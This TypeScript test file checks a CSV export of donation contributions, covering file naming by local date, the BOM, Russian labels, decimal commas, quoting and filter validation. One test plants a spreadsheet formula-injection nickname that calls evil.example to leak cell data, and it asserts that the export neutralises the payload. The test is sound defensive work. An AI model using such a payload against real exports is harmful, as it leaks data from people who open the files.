import { afterEach, describe, expect, it, vi } from 'vitest';
import { db } from '../db';
import { ADMIN_ID, call, RAW_BASE } from '../testing';
import { testTokens } from '../token-testing';
import type { Page } from './contributions.test-helpers';
import { FORMULA_START, parseCsv } from '../csv.test-helpers';

/** The export as bytes, the way a browser receives it. */
async function exportCsv(query = '') {
  const response = await fetch(`${RAW_BASE}/finance/contributions/export${query}`, {
    headers: { Authorization: `Bearer ${testTokens(ADMIN_ID).accessToken}` },
  });
  return { response, bytes: new Uint8Array(await response.arrayBuffer()) };
}

describe('GET /finance/contributions/export', () => {
  afterEach(() => {
    vi.useRealTimers();
    delete process.env.TZ;
  });

  it('names the file by the local day, not the UTC one', async () => {
    process.env.TZ = 'Europe/Moscow';
    // 22:30 UTC on the 23rd is 01:30 on the 24th in Moscow.
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2026-11-23T22:30:00Z'));
    const { response } = await exportCsv();
    expect(response.headers.get('Content-Disposition')).toBe(
      'attachment; filename="contributions-2026-11-24.csv"',
    );
  });

  it('is UTF-8 CSV with a BOM, a header row and one row per contribution of the whole set', async () => {
    const { response, bytes } = await exportCsv('?status=refunded');
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    const now = new Date();
    const today = `${now.getFullYear()}-${String(now.getMonth() + 1).padStart(2, '0')}-${String(now.getDate()).padStart(2, '0')}`;
    expect(response.headers.get('Content-Disposition')).toBe(
      `attachment; filename="contributions-${today}.csv"`,
    );
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    const lines = text.slice(1).split('\r\n');
    expect(lines.pop()).toBe('');
    expect(lines[0]).toBe(
      'Номер;Дата (UTC);Пользователь;Конкурс;Тип;Способ оплаты;Статус;Сумма, ₽',
    );
    const refunded = db.contributions.filter((row) => row.status === 'refunded');
    // The whole filtered set, far more than one page.
    expect(refunded.length).toBeGreaterThan(20);
    expect(lines).toHaveLength(refunded.length + 1);
    const { result } = await call<Page>('/finance/contributions?status=refunded');
    expect(lines).toHaveLength(result.total + 1);
  });

  it('writes roubles with a decimal comma, labels in Russian, and quotes what needs quoting', async () => {
    const row = db.contributions.find((c) => c.contestId !== null && c.type === 'donation')!;
    row.amount = 150_050;
    const contest = db.contests.find((c) => c.id === row.contestId)!;
    contest.title = 'Лучший "кот"; финал';
    const user = db.users.find((u) => u.id === row.userId)!;
    const { bytes } = await exportCsv(`?userId=${user.id}&contestId=${contest.id}`);
    const lines = new TextDecoder().decode(bytes).split('\r\n');
    const line = lines.find((l) => l.startsWith(`${row.id};`))!;
    expect(line).toBe(
      [
        row.id,
        row.createdAt,
        user.nickname,
        '"Лучший ""кот""; финал"',
        'Пожертвование',
        { card: 'Карта', sbp: 'СБП', wallet: 'Кошелёк' }[row.paymentMethod],
        { succeeded: 'Успешно', pending: 'В обработке', failed: 'Ошибка', refunded: 'Возврат' }[
          row.status
        ],
        '1500,50',
      ].join(';'),
    );
    const small = db.contributions.find((c) => c.id !== row.id)!;
    small.amount = 5;
    const one = await exportCsv(`?userId=${small.userId}`);
    expect(new TextDecoder().decode(one.bytes)).toContain(`;0,05\r\n`);
  });

  it('applies the filters and refuses bad ones with 422 JSON', async () => {
    const { bytes } = await exportCsv('?dateFrom=2026-11-01&dateTo=2026-11-03&type=entry_fee');
    const rows = new TextDecoder().decode(bytes).trimEnd().split('\r\n').slice(1);
    const expected = db.contributions.filter(
      (row) =>
        row.type === 'entry_fee' && row.createdAt >= '2026-11-01' && row.createdAt < '2026-11-04',
    );
    expect(rows.map((line) => Number(line.split(';')[0]))).toEqual(
      expected.map((r) => r.id).reverse(),
    );
    const bad = await exportCsv('?status=paid');
    expect(bad.response.status).toBe(422);
  });

  it('opens a nickname written as a formula as text, and no cell of the export starts a formula', async () => {
    const row = db.contributions.find((c) => c.status === 'succeeded')!;
    const user = db.users.find((u) => u.id === row.userId)!;
    user.nickname = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")';
    const other = db.contributions.find((c) => c.userId !== user.id)!;
    db.users.find((u) => u.id === other.userId)!.nickname = '-2+3';
    const { bytes } = await exportCsv();
    const text = new TextDecoder().decode(bytes);
    const line = text.split('\r\n').find((l) => l.startsWith(`${row.id};`))!;
    expect(line.split(';')[2]).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Подробнее"")"`,
    );
    const cells = parseCsv(text);
    expect(cells.find((cells) => cells[0] === String(row.id))![2]).toBe(`'${user.nickname}`);
    expect(cells.find((cells) => cells[0] === String(other.id))![2]).toBe("'-2+3");
    expect(cells.length).toBe(db.contributions.length + 1);
    expect(cells.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
  });
});
